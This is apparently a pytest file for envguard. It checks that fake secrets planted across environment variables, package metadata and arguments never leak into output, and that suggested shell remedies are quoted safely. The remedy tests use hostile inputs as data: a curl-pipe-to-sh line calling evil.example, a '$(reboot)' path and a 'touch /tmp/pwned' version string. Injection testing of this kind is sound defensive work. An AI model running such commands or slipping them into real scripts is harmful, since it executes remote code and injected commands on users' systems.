"""Planted secrets never reach anything envguard writes or prints (issue 22).

Secrets of every kind envguard's redaction knows are planted where a real training
environment has them: in secret-named variables, as values of innocent ones (a token in
``TORCH_FOO``, in a ``LD_LIBRARY_PATH`` entry, a signed URL), in ``UV_*``/``PIP_*`` index
URLs (a "/" in the password, no scheme, two URLs in one value), in ``direct_url.json`` of
two installed packages (an archive URL and a VCS URL with userinfo), in ``--index-url`` of
``envguard restore`` and in the argv of ``envguard run``. Then every command runs for real,
as a subprocess, on real uv-built venvs: snapshot, diff (text, JSON, markdown), lock,
check, run, fleet snapshot and diff, restore --dry-run (requirements, pylock, JSON), cache
status and save. Every byte envguard wrote (the project folder with ``.envguard/`` and
``lockfiles/``, its memo and archive folder ``$ENVGUARD_CACHE_DIR``, the compile caches'
marker files, the config folder) and every stdout and stderr is searched for every secret.

Nothing is mocked. ``direct_url.json`` is the one file written by hand: uv and pip both
drop userinfo from the URL they record (PEP 610 asks them to), so the packages are
installed by uv from local wheels and the file is then rewritten as an installer that
keeps credentials (or a hand-made environment) leaves it.
"""

from __future__ import annotations

import dataclasses
import json
import os
import random
import shlex
import stat
import string
import subprocess
import sys
from pathlib import Path

import pytest

from envguard.model import Snapshot
from tests.conftest import venv_factory
from tests.wheelfactory import Venv, build_wheel, fake_torch_files

RNG = random.Random(22)  # noqa: S311 - reproducible test data, not keys
ALNUM = string.ascii_letters + string.digits


def rand(n: int, alphabet: str = ALNUM) -> str:
    """``n`` random characters of ``alphabet``; with an upper-case letter, a lower-case
    letter and a digit in it when the alphabet has them (as real keys do)."""
    head = "Qz7" if set("Qz7") <= set(alphabet) else ""
    return head + "".join(RNG.choice(alphabet) for _ in range(n - len(head)))


def password() -> str:
    return "Pw" + rand(18)


SECRETS: dict[str, str] = {
    # secret names: the value is never recorded
    "HF_TOKEN": "hf_" + rand(34),
    "PIP_PASSWORD": password(),
    "UV_INDEX_CORP_PASSWORD": password(),
    "TORCH_HUB_PAT": password(),
    "HF_PASSPHRASE": password(),
    "TRITON_SESSION": password(),
    "HF_HUB_COOKIE": password(),
    "TORCH_SIGNATURE": password(),
    "HF_CREDENTIALS": password(),
    "PYTORCH_AUTH": password(),
    "NVIDIA_BEARER": password(),
    "NVIDIA_API_KEY": password(),
    "WANDB_API_KEY": password(),  # recorded through [tool.envguard] env
    "GH_PAT": "github_pat_" + rand(82, ALNUM + "_"),  # likewise
    # credentials by shape, in variables with innocent names
    "TORCH_FOO": "ghp_" + rand(36),
    "LD_LIBRARY_PATH": "ghp_" + rand(36),  # a folder name inside the value, below
    "TRITON_BAR": "github_pat_" + rand(82, ALNUM + "_"),
    "HF_MIRROR_NOTE": "hf_" + rand(34),
    "TORCH_OPENAI": "sk-proj-" + rand(64, ALNUM + "_-"),
    "TORCH_ANTHROPIC": "sk-ant-api03-" + rand(90, ALNUM + "_-"),
    "NCCL_SLACK": "xoxb-" + rand(12, string.digits) + "-" + rand(24),
    "CUDA_AWS_ID": "AKIA" + rand(16, string.ascii_uppercase + string.digits),
    "CUDA_EXTRA": rand(40, ALNUM + "/+"),  # an AWS secret access key
    "PYTORCH_BLOB": "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + "eyJ" + rand(40, ALNUM + "_-")
                    + "." + rand(43, ALNUM + "_-"),
    "HF_ENDPOINT": rand(24),  # ?token=
    "TORCH_ARTIFACT_URL": rand(64, "0123456789abcdef"),  # X-Amz-Signature=
    "TORCH_BLOB_URL": rand(44, ALNUM + "%"),  # ?sig= (Azure SAS)
    "TORCH_DB_URL": password(),  # postgres://user:PASSWORD@host
    "TORCH_TLS_CERT": rand(64, ALNUM + "+/"),  # inside a PEM private key
    # index URLs
    "UV_INDEX_URL": password(),  # https://deploy:pa/PASSWORD@host (a "/" in it)
    "PIP_EXTRA_INDEX_URL": password(),  # deploy:PASSWORD@host/simple (no scheme)
    "UV_EXTRA_INDEX_URL": password(),  # the second of two URLs in one value
    "ENVGUARD_MASK_KEY": "mask-" + rand(24),
    # files and argv
    "direct_url archive": password(),
    "direct_url vcs": "glpat-" + rand(20, ALNUM + "_-"),
    "restore --index-url": password(),
    "run --token": "hf_" + rand(34),
    "run --password=": password(),
    "run password=": password(),
    "run -p": password(),
    "run --hf-token": password(),
}
CHANGED = {"HF_TOKEN": "hf_" + rand(34), "TORCH_FOO": "ghp_" + rand(36),
           "UV_INDEX_URL": password()}
"""The second snapshot's values: a masked value that changes must show in the diff."""

PEM = ("-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----\n"
       "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIU\n-----END CERTIFICATE-----\n")


def planted_env(values: dict[str, str]) -> dict[str, str]:
    """The variables, each holding its secret the way a real environment would."""
    s = values
    env = {name: s[name] for name in (
        "HF_TOKEN", "PIP_PASSWORD", "UV_INDEX_CORP_PASSWORD", "TORCH_HUB_PAT",
        "HF_PASSPHRASE", "TRITON_SESSION", "HF_HUB_COOKIE", "TORCH_SIGNATURE",
        "HF_CREDENTIALS", "PYTORCH_AUTH", "NVIDIA_BEARER", "NVIDIA_API_KEY", "WANDB_API_KEY",
        "GH_PAT", "TORCH_FOO", "TRITON_BAR", "HF_MIRROR_NOTE", "TORCH_OPENAI",
        "TORCH_ANTHROPIC", "NCCL_SLACK", "CUDA_AWS_ID", "CUDA_EXTRA", "PYTORCH_BLOB",
        "ENVGUARD_MASK_KEY")}
    env.update({
        "LD_LIBRARY_PATH": f"/opt/lib:/tmp/{s['LD_LIBRARY_PATH']}/lib",
        "HF_ENDPOINT": f"https://hf-mirror.example/api?user=me&token={s['HF_ENDPOINT']}",
        "TORCH_ARTIFACT_URL": "https://bucket.s3.amazonaws.com/w.pt?X-Amz-Algorithm=AWS4-"
                              f"HMAC-SHA256&X-Amz-Signature={s['TORCH_ARTIFACT_URL']}",
        "TORCH_BLOB_URL": "https://acct.blob.core.windows.net/c/w.pt?sv=2022-11-02&sp=r"
                          f"&sig={s['TORCH_BLOB_URL']}",
        "TORCH_DB_URL": f"postgres://trainer:{s['TORCH_DB_URL']}@db.example:5432/runs",
        "TORCH_TLS_CERT": PEM.format(s["TORCH_TLS_CERT"]),
        "UV_INDEX_URL": f"https://deploy:pa/{s['UV_INDEX_URL']}@pypi.corp.example/simple",
        "PIP_EXTRA_INDEX_URL": f"deploy:{s['PIP_EXTRA_INDEX_URL']}@pypi2.corp.example/simple",
        "UV_EXTRA_INDEX_URL": "https://pypi.org/simple https://ci:"
                              f"{s['UV_EXTRA_INDEX_URL']}@pypi3.corp.example/simple",
    })
    return env


INNOCENT = {"CUDA_VISIBLE_DEVICES": "0,1", "TORCH_CUDA_ARCH_LIST": "9.0",
            "PIP_INDEX_URL": "https://pypi.org/simple", "HF_HUB_ENABLE_HF_TRANSFER": "1",
            "PYTORCH_CUDA_ALLOC_CONF": "expandable_segments:True",
            "TORCH_EXTRA_PATH": "/opt/hf_transfer/bin:/usr/local/cuda-12.8/bin"}
"""Values redaction must leave alone."""

DEMO_MAIN = "def main():\n    return 0\n"  # prints nothing: its argv is the child's business


@dataclasses.dataclass
class World:
    root: Path
    project: Path
    home: Path
    good: Venv
    other: Venv
    env: dict[str, str]
    outputs: list[tuple[str, str]]
    """(what, text) of every stdout and stderr."""

    def envguard(self, *args: str | Path, env: dict[str, str] | None = None,
                 codes: tuple[int, ...] = (0,)) -> subprocess.CompletedProcess[str]:
        proc = subprocess.run([sys.executable, "-m", "envguard", *map(str, args)],
                              cwd=self.project, env=env or self.env, capture_output=True,
                              text=True, timeout=180, check=False)
        what = " ".join(map(str, args))
        self.outputs += [(f"stdout of {what}", proc.stdout), (f"stderr of {what}", proc.stderr)]
        assert proc.returncode in codes, f"{what}: {proc.returncode}\n{proc.stderr}"
        return proc


def _rewrite_direct_url(venv: Venv, dist: str, doc: dict[str, object]) -> None:
    (info,) = venv.site_packages().glob(f"{dist}-*.dist-info")
    (info / "direct_url.json").write_text(json.dumps(doc))


def _make_world(root: Path) -> World:
    venvs = venv_factory(root)
    wheels, home = venvs.wheels, root / "home"
    torch = build_wheel(wheels, "torch", "2.11.0+cu128", fake_torch_files())
    demo = build_wheel(wheels, "demo-train", "1.0", {"demo_train/__init__.py": DEMO_MAIN},
                       requires=("torch",), scripts={"demo-train": "demo_train:main"})
    private = build_wheel(wheels, "corp-private", "1.0", {"corp_private/__init__.py": ""})
    vcs = build_wheel(wheels, "corp-vcs", "2.0", {"corp_vcs/__init__.py": ""})
    good = venvs.create("good")
    venvs.uv_install(good, torch, demo, private, vcs)
    _rewrite_direct_url(good, "corp_private", {
        "url": f"https://deploy:{SECRETS['direct_url archive']}@pypi.corp.example/packages/"
               "corp_private-1.0-py3-none-any.whl",
        "archive_info": {"hashes": {"sha256": "ab" * 32}}})
    _rewrite_direct_url(good, "corp_vcs", {
        "url": f"https://oauth2:{SECRETS['direct_url vcs']}@gitlab.corp.example/ml/corp-vcs.git",
        "vcs_info": {"vcs": "git", "commit_id": "c0ffee" * 6 + "abcd"}})
    other = venvs.create("other")
    venvs.uv_install(other, torch)

    project = root / "project"
    (project / "src").mkdir(parents=True)
    (project / "pyproject.toml").write_text(
        '[project]\nname = "p"\nversion = "0"\n[tool.envguard]\nenv = ["WANDB_*", "GH_*"]\n')
    (project / "src" / "train.py").write_text("LR = 3e-4\n")
    inductor = home / "inductor"
    (inductor / "fxgraph" / "ab").mkdir(parents=True)
    (inductor / "fxgraph" / "ab" / "entry").write_text("compiled\n")
    env = {k: v for k, v in os.environ.items() if k != "ENVGUARD_VERIFIED"}
    env.update({"ENVGUARD_CACHE_DIR": str(home / "cache"),
                "XDG_CONFIG_HOME": str(home / "config"),
                "XDG_CACHE_HOME": str(home / "xdg-cache"),
                "TORCHINDUCTOR_CACHE_DIR": str(inductor),
                "TRITON_CACHE_DIR": str(home / "triton"),
                "CUDA_CACHE_PATH": str(home / "nv"),
                "GIT_CEILING_DIRECTORIES": str(root)})
    env.update(INNOCENT)
    env.update(planted_env(SECRETS))
    return World(root=root, project=project, home=home, good=good, other=other, env=env,
                 outputs=[])


def _run_everything(w: World) -> None:
    py = w.good.python
    w.envguard("snapshot", "-o", "good.json", "--python", py, "--file", "src/*.py")
    w.envguard("snapshot", "--json", "--python", py)
    changed = {**w.env, **planted_env({**SECRETS, **CHANGED})}
    w.envguard("snapshot", "-o", "new.json", "--python", py, "--file", "src/*.py", env=changed)
    for fmt in ("text", "json", "markdown"):
        w.envguard("diff", "good.json", "new.json", "--format", fmt, codes=(1,))
    w.envguard("lock", "demo-train", "--python", py, "--file", "src/*.py")
    for fmt in ("text", "json", "markdown"):
        w.envguard("check", "demo-train", "--python", py, "--format", fmt)
    w.envguard("run", "--", w.good.path / "bin" / "demo-train",
               "--token", SECRETS["run --token"], f"--password={SECRETS['run --password=']}",
               f"password={SECRETS['run password=']}", "-p", SECRETS["run -p"],
               "--hf-token", SECRETS["run --hf-token"], "--lr", "3e-4")
    w.envguard("fleet", "snapshot", "-o", "fleet.json", "--python", py)
    for fmt in ("text", "json", "markdown"):
        w.envguard("fleet", "diff", "fleet.json", "new.json", "--format", fmt, codes=(1,))
    index = f"https://ci:{SECRETS['restore --index-url']}@pypi.corp.example/simple"
    for fmt in ("text", "json"):
        w.envguard("restore", "good.json", "--dry-run", "--python", w.other.python,
                   "--requirements-out", f"requirements-{fmt}.txt",
                   "--pylock-out", f"pylock-{fmt}.toml", "--index-url", index,
                   "--format", fmt, "--all")
    for fmt in ("text", "json"):
        w.envguard("cache", "status", "--python", py, "--format", fmt)
    w.envguard("cache", "save", "--python", py)
    w.envguard("cache", "save", "--from-snapshot", "good.json", "from-snapshot")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    w = _make_world(tmp_path_factory.mktemp("secrets"))
    _run_everything(w)
    return w


def written_files(w: World) -> list[Path]:
    """Everything envguard may have written: the project, its own folders, the caches."""
    folders = [w.project, w.home]
    return sorted(p for f in folders for p in f.rglob("*") if p.is_file())


def test_at_least_25_secrets_are_planted() -> None:
    assert len(set(SECRETS.values())) == len(SECRETS) >= 25
    assert not set(CHANGED.values()) & set(SECRETS.values())


def test_no_planted_secret_reaches_any_output(world: World) -> None:
    files = written_files(world)
    names = {p.relative_to(world.root).as_posix() for p in files}
    # Each command did write what it is supposed to: the search below searched something.
    assert {"project/good.json", "project/new.json", "project/fleet.json",
            "project/lockfiles/demo-train.toml", "project/requirements-json.txt",
            "project/pylock-json.toml"} <= names
    assert any(n.startswith("project/.envguard/runs/") and n.endswith(".run.json")
               for n in names)
    assert any(n.startswith("project/lockfiles/demo-train.snapshots/") for n in names)
    assert any(n.startswith("home/cache/compile-caches/") for n in names)
    assert any(n.endswith(".envguard-builds.json") for n in names)
    haystacks = [(str(p), p.read_bytes()) for p in files]
    haystacks += [(what, text.encode()) for what, text in world.outputs]
    leaks = [f"{label} in {where}" for label, secret in {**SECRETS, **CHANGED}.items()
             for where, data in haystacks if secret.encode() in data]
    assert not leaks, "\n".join(leaks)


def test_the_planted_sources_are_real(world: World) -> None:
    """The search is not vacuous: the secrets are where the test put them."""
    site = world.good.site_packages()
    assert SECRETS["direct_url archive"] in (
        next(site.glob("corp_private-*.dist-info")) / "direct_url.json").read_text()
    assert world.env["UV_INDEX_URL"].endswith("@pypi.corp.example/simple")


def test_redacted_values_keep_their_shape(world: World) -> None:
    snapshot = json.loads((world.project / "good.json").read_text())
    variables = snapshot["environment"]["variables"]
    for name, value in INNOCENT.items():
        assert variables[name] == {"value": value, "masked": False, "digest": None}, name
    assert variables["HF_TOKEN"]["value"] is None and variables["HF_TOKEN"]["masked"]
    assert variables["GH_PAT"]["value"] is None  # an extra pattern from [tool.envguard]
    assert variables["LD_LIBRARY_PATH"]["value"] == "/opt/lib:/tmp/***/lib"
    assert variables["UV_INDEX_URL"]["value"] == "https://***@pypi.corp.example/simple"
    assert variables["PIP_EXTRA_INDEX_URL"]["value"] == "***@pypi2.corp.example/simple"
    assert variables["UV_EXTRA_INDEX_URL"]["value"] == (
        "https://pypi.org/simple https://***@pypi3.corp.example/simple")
    assert variables["TORCH_BLOB_URL"]["value"].endswith("&sp=r&sig=***")
    assert "-----BEGIN CERTIFICATE-----" in variables["TORCH_TLS_CERT"]["value"]
    assert all(v["digest"] for v in variables.values() if v["masked"])
    packages = {p["name"]: p for p in snapshot["packages"]}
    assert packages["corp-private"]["direct_url"]["url"] == (
        "https://***@pypi.corp.example/packages/corp_private-1.0-py3-none-any.whl")
    requirements = (world.project / "requirements-json.txt").read_text()
    assert "corp-vcs @ git+https://***@gitlab.corp.example/ml/corp-vcs.git@" in requirements


def test_a_masked_value_that_changes_is_still_a_change(world: World) -> None:
    proc = world.envguard("diff", "good.json", "new.json", "--format", "json", codes=(1,))
    changes = {c["key"]: c for c in json.loads(proc.stdout)["changes"]
               if c["section"] == "environment"}
    assert set(changes) == set(CHANGED)
    assert changes["UV_INDEX_URL"]["new"] == "<masked, changed>"  # same redacted text
    for what, text in world.outputs:
        for name in (*CHANGED, "PIP_EXTRA_INDEX_URL", "TORCH_DB_URL"):
            assert f"export {name}" not in text, what
    same = world.envguard("diff", "good.json", "good.json", "--format", "json")
    assert json.loads(same.stdout)["equivalent"] is True


def test_run_records_are_private_and_redacted(world: World) -> None:
    runs = world.project / ".envguard" / "runs"
    for path in runs.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    (record_path,) = runs.glob("*.run.json")
    argv = json.loads(record_path.read_text())["argv"]
    assert argv[1:] == ["--token", "***", "--password=***", "password=***", "-p", "***",
                        "--hf-token", "***", "--lr", "3e-4"]


def test_an_old_snapshot_with_credentials_is_redacted_when_read(world: World) -> None:
    """A snapshot written before redaction existed does not carry its credentials on."""
    doc = json.loads((world.project / "good.json").read_text())
    secret = "Pw" + rand(18)
    for p in doc["packages"]:
        if p["name"] == "corp-private":
            p["direct_url"]["url"] = f"https://deploy:{secret}@old.example/x.whl"
    doc["errors"].append({"section": "packages", "path": f"/tmp/ghp_{rand(36)}",
                          "message": f"token=ghp_{rand(36)}"})
    (world.project / "old.json").write_text(json.dumps(doc))
    ghp = [e for e in doc["errors"] if e["section"] == "packages"][-1]
    for args in (("diff", "old.json", "good.json", "--format", "json"),
                 ("restore", "old.json", "--dry-run", "--python", world.other.python,
                  "--format", "json", "--requirements-out", "old-requirements.txt")):
        proc = world.envguard(*args, codes=(0, 1))
        for text in (proc.stdout, proc.stderr,
                     (world.project / "old-requirements.txt").read_text()
                     if args[0] == "restore" else ""):
            assert secret not in text
            assert ghp["path"].removeprefix("/tmp/") not in text


# ------------------------------------------------------------ remedies that paste safely

def _env_snapshot(cwd: Path, env: dict[str, str]) -> Snapshot:
    from envguard.probe import SnapshotOptions, collect

    return collect(SnapshotOptions(cwd=cwd, env=env, verify="none", git=False,
                                   use_project_config=False))


def _env_remedy(old: Snapshot, new: Snapshot) -> str:
    from envguard.explain import explain

    (finding,) = [f for f in explain(old, new) if f.rule == "env-var-changed"]
    (remedy,) = finding.remedy
    return remedy


def test_remedy_exports_are_shell_quoted(clean_cwd: Path) -> None:
    hostile = "x; curl -s https://evil.example/p | sh #"
    urls = "https://download.pytorch.org/whl/cu128 https://pypi.org/simple"
    good = _env_snapshot(clean_cwd, {"TORCH_LOGS": hostile, "UV_EXTRA_INDEX_URL": urls,
                                     "NCCL_DEBUG": "INFO"})
    now = _env_snapshot(clean_cwd, {"TORCH_LOGS": "+dynamo", "UV_EXTRA_INDEX_URL": "x",
                                    "NCCL_DEBUG": "WARN"})
    remedy = _env_remedy(good, now)
    head, _, exports = remedy.partition(": ")
    assert head == "set them back in the launch script, or export the good values"
    # Pasted into a shell, the line runs three exports and nothing else.
    words = shlex.split(exports.replace("; export", " ; export"))
    assert words == ["export", "NCCL_DEBUG=INFO", ";", "export", f"TORCH_LOGS={hostile}", ";",
                     "export", f"UV_EXTRA_INDEX_URL={urls}"]
    assert "export NCCL_DEBUG=INFO" in remedy  # plain values stay plain


def test_remedy_never_exports_a_masked_value(clean_cwd: Path) -> None:
    token, pw = "hf_" + rand(34), password()
    url = f"https://u:{pw}@idx.example/simple"
    good = _env_snapshot(clean_cwd, {"HF_TOKEN": token, "NCCL_DEBUG": "INFO",
                                     "UV_INDEX_URL": url})
    now = _env_snapshot(clean_cwd, {"HF_TOKEN": token + "x", "NCCL_DEBUG": "WARN",
                                    "UV_INDEX_URL": "https://idx.example/simple"})
    remedy = _env_remedy(good, now)
    assert remedy.endswith("; restore the values of HF_TOKEN, UV_INDEX_URL from your secret "
                           "store"), remedy
    assert "export NCCL_DEBUG=INFO" in remedy
    for never in ("export HF_TOKEN", "export UV_INDEX_URL", "***", "<masked", token, pw):
        assert never not in remedy
    only_secret = _env_remedy(good, _env_snapshot(clean_cwd, {"HF_TOKEN": token + "y",
                                                              "NCCL_DEBUG": "INFO",
                                                              "UV_INDEX_URL": url}))
    assert only_secret == "restore the value of HF_TOKEN from your secret store"


def test_recreate_venv_remedy_quotes_the_prefix(clean_cwd: Path) -> None:
    from envguard.explain import explain

    good = _env_snapshot(clean_cwd, {})
    odd = "/opt/my envs/$(reboot);x"
    good = dataclasses.replace(good, interpreter=dataclasses.replace(
        good.interpreter, prefix=odd, version="3.10.4"))
    (finding,) = [f for f in explain(good, _env_snapshot(clean_cwd, {}))
                  if f.rule == "python-changed"]
    command = finding.remedy[0].split(": ", 1)[1]
    assert shlex.split(command) == ["uv", "venv", "--python", "3.10.4", "--", odd]


def test_package_and_torch_remedies_quote_what_a_snapshot_holds(clean_cwd: Path) -> None:
    """A tampered good snapshot (versions are free text in METADATA) cannot put a command
    into a remedy."""
    from envguard.explain import explain

    now = _env_snapshot(clean_cwd, {})
    victim = now.packages[0]
    hostile = '1.0"; touch /tmp/pwned; "'
    good = dataclasses.replace(
        now, packages=[dataclasses.replace(victim, version=hostile), *now.packages[1:]],
        torch=dataclasses.replace(now.torch, present=True, version="2.11.0+cu128;touch${IFS}x"))
    removed = dataclasses.replace(now, packages=now.packages[1:])
    remedies = {f.rule: f.remedy for f in explain(good, removed)}
    # refused outright (envguard/explain/remedies.py): no command, the field named
    (install,) = remedies["package-removed"]
    assert install.startswith(f"(no command: packages.{victim.name}.version: ")
    assert "touch" not in install.split("not a valid version")[1]
    hint = remedies["torch-version-changed"][0]
    assert hint.startswith("(no command: torch.version: ") and "--index-url" not in hint
    plain = {f.rule: f.remedy for f in explain(dataclasses.replace(
        good, packages=now.packages, torch=dataclasses.replace(now.torch, version="2.11.0")),
        now)}
    assert plain["torch-version-changed"][0] == 'uv pip install --reinstall -- "torch==2.11.0"'
